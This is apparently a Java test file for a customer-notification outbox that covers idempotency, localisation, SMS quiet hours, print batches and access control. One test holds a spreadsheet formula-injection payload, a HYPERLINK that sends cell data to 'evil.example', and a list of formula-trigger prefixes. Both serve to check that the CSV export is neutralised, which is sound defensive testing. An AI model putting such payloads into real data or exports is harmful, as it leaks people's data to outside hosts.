package com.drivecare.contact;

import static org.assertj.core.api.Assertions.assertThat;

import com.drivecare.Api;
import com.drivecare.DrivecareTest;
import com.drivecare.TestData;
import com.drivecare.customer.Channel;
import com.drivecare.customer.Customer;
import com.drivecare.people.Groups;
import java.io.StringReader;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.Date;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.camunda.bpm.engine.impl.util.ClockUtil;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.apache.commons.csv.CSVFormat;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.transaction.support.TransactionTemplate;

@DrivecareTest
class OutboxTest {

  @Autowired NotificationService notifications;
  @Autowired OutboxDispatcher dispatcher;
  @Autowired OutboxRepository outbox;
  @Autowired ContactLog contactLog;
  @Autowired TransactionTemplate transaction;
  @Autowired TestData testData;
  @Autowired JdbcClient jdbc;
  @LocalServerPort int port;

  @AfterEach
  void resetClock() {
    ClockUtil.reset();
  }

  @Test
  void sameIdempotencyKeyIsStoredOnce() {
    Customer customer = testData.customer().create();
    String key = TestData.unique("key");
    Optional<Long> first = request(customer, key, null);
    Optional<Long> second = request(customer, key, null);
    assertThat(first).isPresent();
    assertThat(second).isEqualTo(first);
    assertThat(outbox.search(null, null, null, customer.id(), null, null, 100, 0)).hasSize(1);
  }

  @Test
  void deliveredNotificationIsRenderedInTheCustomersLanguageAndLogged() {
    Customer customer = testData.customer().named("Émilie Rousseau").speaking("fr").create();
    String owner = testData.staff(TestData.unique("owner"), Groups.CASE_OWNERS, TestData.FR, null);
    String caseKey = TestData.unique("CASE");
    long id = transaction.execute(s -> notifications.request(new NotificationRequest("case-owner-introduction",
        customer.id(), caseKey, TestData.unique("key"), null, owner, Map.of(), false))).orElseThrow();

    OutboxMessage queued = outbox.find(id).orElseThrow();
    assertThat(queued.status()).isEqualTo(OutboxMessage.Status.PENDING);
    assertThat(queued.subject()).isEqualTo("Votre interlocuteur pour le dossier " + caseKey);
    assertThat(queued.body()).startsWith("Bonjour Émilie Rousseau").contains("First" + owner + " Last");

    dispatcher.dispatchDue(List.of(id));
    assertThat(outbox.find(id).orElseThrow().status()).isEqualTo(OutboxMessage.Status.SENT);
    assertThat(contactLog.timeline(caseKey)).singleElement().satisfies(e -> {
      assertThat(e.channel()).isEqualTo(Channel.EMAIL);
      assertThat(e.direction()).isEqualTo(Direction.OUTBOUND);
      assertThat(e.outcome()).isEqualTo("DELIVERED");
      assertThat(e.customerId()).isEqualTo(customer.id());
    });
  }

  @Test
  void smsWaitsForTheEndOfQuietHours() {
    Customer customer = testData.customer().preferring(Channel.SMS).create(); // Paris
    ClockUtil.setCurrentTime(Date.from(Instant.parse("2026-11-23T21:30:00Z"))); // 22:30 in Paris
    long id = request(customer, TestData.unique("key"), null).orElseThrow();
    OutboxMessage queued = outbox.find(id).orElseThrow();
    assertThat(queued.channel()).isEqualTo(Channel.SMS);
    assertThat(queued.nextAttemptAt()).isEqualTo(Instant.parse("2026-11-24T07:00:00Z"));

    dispatcher.dispatchDue(List.of(id));
    assertThat(outbox.find(id).orElseThrow().status()).isEqualTo(OutboxMessage.Status.PENDING);
    ClockUtil.setCurrentTime(Date.from(Instant.parse("2026-11-24T07:00:01Z")));
    dispatcher.dispatchDue(List.of(id));
    assertThat(outbox.find(id).orElseThrow().status()).isEqualTo(OutboxMessage.Status.SENT);
  }

  @Test
  void letterGoesIntoTheDaysPrintBatch() {
    Customer customer = testData.customer().named("Marc Lefèvre").preferring(Channel.LETTER)
        .address("12 rue des Lilas\n75011 Paris").create();
    long id = request(customer, TestData.unique("key"), null).orElseThrow();
    dispatcher.dispatchDue(List.of(id));
    OutboxMessage sent = outbox.find(id).orElseThrow();
    String today = LocalDate.now(ZoneOffset.UTC).toString();
    assertThat(sent.printBatch()).isEqualTo(today);
    var batch = Api.at(port).basic("test-admin", "test-admin-secret").get("/api/outbox/print-batches/" + today);
    assertThat(batch.status()).isEqualTo(200);
    assertThat(batch.contentType()).startsWith("text/csv");
    assertThat(batch.body()).contains("Marc Lefèvre", "12 rue des Lilas");
  }

  @Test
  void printBatchWritesFormulasAsText() throws Exception {
    Customer customer = testData.customer().preferring(Channel.LETTER).address("@SUM(1+1)\n75011 Paris").create();
    String formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click me\")";
    // however the name got in (an old import, a database fix): it must reach the print shop as text
    jdbc.sql("update drivecare.customer set name = ? where id = ?").params(formula, customer.id()).update();
    long id = request(customer, TestData.unique("key"), null).orElseThrow();
    dispatcher.dispatchDue(List.of(id));
    String date = outbox.find(id).orElseThrow().printBatch();

    var batch = Api.at(port).basic("test-admin", "test-admin-secret").get("/api/outbox/print-batches/" + date);
    assertThat(batch.status()).isEqualTo(200);
    var records = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
        .parse(new StringReader(batch.body())).getRecords();
    var letter = records.stream().filter(r -> r.get("notification").equals(String.valueOf(id))).findFirst().orElseThrow();
    assertThat(letter.get("recipient")).startsWith("'" + formula);
    assertThat(letter.get("recipient")).contains("@SUM(1+1)");
    assertThat(records).allSatisfy(r -> r.stream().forEach(cell ->
        assertThat(cell).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-").doesNotStartWith("@")
            .doesNotStartWith("\t").doesNotStartWith("\r")));
  }

  @ParameterizedTest
  @ValueSource(strings = {"=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"})
  void cellsThatASpreadsheetWouldEvaluateAreWrittenAsText(String cell) {
    assertThat(OutboxController.spreadsheetSafe(cell)).isEqualTo("'" + cell);
  }

  @ParameterizedTest
  @ValueSource(strings = {"Marc Lefèvre", "12 rue des Lilas", "'quoted", "a=b", ""})
  void ordinaryCellsAreWrittenAsTheyAre(String cell) {
    assertThat(OutboxController.spreadsheetSafe(cell)).isEqualTo(cell);
  }

  @Test
  void customerWithoutDataForTheChannelIsLoggedAsUnreachable() {
    Customer customer = testData.customer().withoutPhone().create();
    String caseKey = TestData.unique("CASE");
    Optional<Long> id = transaction.execute(s -> notifications.request(new NotificationRequest("access-link",
        customer.id(), caseKey, TestData.unique("key"), Channel.SMS, null, Map.of(), true)));
    assertThat(id).isEmpty();
    assertThat(contactLog.timeline(caseKey)).singleElement()
        .satisfies(e -> assertThat(e.outcome()).isEqualTo("UNREACHABLE"));
  }

  @Test
  void outboxIsForStaffOnly() {
    Customer customer = testData.customer().create();
    request(customer, TestData.unique("key"), null);
    assertThat(Api.at(port).bearer(testData.token(customer.id())).get("/api/outbox").status()).isEqualTo(403);
    var staff = Api.at(port).basic("test-admin", "test-admin-secret").get("/api/outbox?customerId=" + customer.id());
    assertThat(staff.status()).isEqualTo(200);
    assertThat(staff.json()).hasSize(1);
    assertThat(staff.json().get(0).get("template").asText()).isEqualTo("access-link");
  }

  @Test
  void accessLinkCarriesAWorkingTokenForTheCustomer() {
    Customer customer = testData.customer().create();
    var sent = Api.at(port).basic("test-admin", "test-admin-secret").post("/api/customers/" + customer.id() + "/access-link", "");
    assertThat(sent.status()).isEqualTo(202);
    OutboxMessage message = outbox.find(sent.json().get("notificationId").asLong()).orElseThrow();
    String token = message.body().replaceAll("(?s).*#token=([A-Za-z0-9_\\-]+).*", "$1");
    assertThat(token).startsWith("dct_");
    var own = Api.at(port).bearer(token).get("/api/customers/" + customer.id());
    assertThat(own.status()).isEqualTo(200);
    assertThat(own.json().get("name").asText()).isEqualTo(customer.name());
  }

  private Optional<Long> request(Customer customer, String key, Channel channel) {
    return transaction.execute(s -> notifications.request(new NotificationRequest("access-link", customer.id(),
        "customer-" + customer.id(), key, channel, null, Map.of(), true)));
  }
}
